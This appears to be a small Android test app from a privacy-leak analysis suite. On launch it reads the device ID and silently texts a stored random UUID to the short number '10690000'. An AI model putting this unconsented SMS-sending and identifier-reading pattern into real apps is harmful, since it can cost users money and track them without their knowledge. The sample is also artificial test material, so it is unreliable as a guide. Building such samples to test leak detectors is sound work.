package cn.privlens.suite.identity_made_up_kept;

import android.app.Activity;
import android.content.Context;
import android.content.SharedPreferences;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import java.util.UUID;

public class Main extends Activity {
    static final class Identity {
        private static volatile String own;

        static String of(Context context) {
            if (own == null) {
                synchronized (Identity.class) {
                    if (own == null) {
                        SharedPreferences kept = context.getSharedPreferences("identity", MODE_PRIVATE);
                        String known = kept.getString("own", null);
                        if (known == null) {
                            known = UUID.randomUUID().toString();
                            kept.edit().putString("own", known).apply();
                        }
                        own = known;
                    }
                }
            }
            return own;
        }
    }

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        setTitle(phone.getDeviceId() == null ? "无" : "有");
        SmsManager.getDefault().sendTextMessage("10690000", null, "号" + Identity.of(this), null, null);
    }
}
